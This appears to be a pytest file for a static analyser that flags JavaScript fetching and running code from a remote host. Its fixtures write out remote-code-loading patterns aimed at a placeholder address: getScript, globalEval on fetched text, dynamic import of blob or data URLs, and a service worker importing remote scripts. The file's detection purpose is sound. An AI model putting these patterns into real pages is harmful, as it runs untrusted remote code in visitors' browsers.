"""What a page's own library fetches and makes of it, and code that comes in an address."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Taint

FAR = "'https://c.example.invalid/a'"
LOADED = [
    f"$.getScript({FAR})",
    f"jQuery.ajax({{url: {FAR}, dataType: 'script'}})",
    f"$('#a').load({FAR})",
    f"$.get({FAR}, (d) => $('body').append(d))",
    f"$.ajax({{url: {FAR}, success: (d) => {{ $('#a').html(d); }}}})",
    f"$.ajax({FAR}).done((d) => $('#a').html(d))",
    f"(function (q) {{ q.getJSON({FAR}, (d) => q('#a').prepend(d.b)); }})(window.jQuery)",
    f"fetch({FAR}).then((r) => r.text()).then((t) => $(t).appendTo('body'))",
    f"fetch({FAR}).then((r) => r.text()).then((t) => document.write(t))",
]
AT_HOME = [
    "$.get('/a', (d) => $('#a').html(d))",
    "$.getJSON('a.json', (d) => $('#a').html(d.b))",
    "$('#a').load('/a.html')",
    "$('<div class=\"a\">').appendTo('body')",
    "$(function () { $('#a').on('click', () => $('#a').toggle()); })",
    "require('cheerio').load('<a></a>')('a').append('<b></b>')",
    f"fetch({FAR}).then((r) => r.text()).then((t) => {{ document.title = t; }})",
]


@pytest.mark.parametrize("text", LOADED)
def test_markup_runs_with_its_scripts(text: str) -> None:
    found = [one.target for one in flows(text, Act.IMPORT, "npm")]
    assert found == ["https://c.example.invalid/a"]


@pytest.mark.parametrize("text", AT_HOME)
def test_a_page_asks_its_own_site(text: str) -> None:
    assert not flows(text, Act.IMPORT, "npm")
    assert not [one for one in flows(text, form="npm") if one.act is Act.EXECUTE]


@pytest.mark.parametrize(
    "text",
    [
        f"$.get({FAR}, (d) => $.globalEval(d))",
        f"fetch({FAR}).then((r) => r.blob()).then((b) => import(URL.createObjectURL(b)))",
        f"fetch({FAR}).then((r) => r.text()).then((t) => import('data:text/javascript;base64,' + btoa(t)))",
    ],
)
def test_what_is_fetched_and_runs(text: str) -> None:
    (one,) = flows(text, Act.EXECUTE, "npm")
    assert one.has(Taint.NETWORK)


def test_the_worker_between_a_page_and_its_site() -> None:
    inner = f"new Blob(['importScripts({FAR.replace(chr(39), chr(34))})'])"
    text = "navigator.serviceWorker.register({})"
    (one,) = flows(text.format(f"URL.createObjectURL({inner})"), Act.IMPORT, "npm")
    assert one.target == "https://c.example.invalid/a"
    assert not flows(text.format("'/worker.js'"), form="npm")
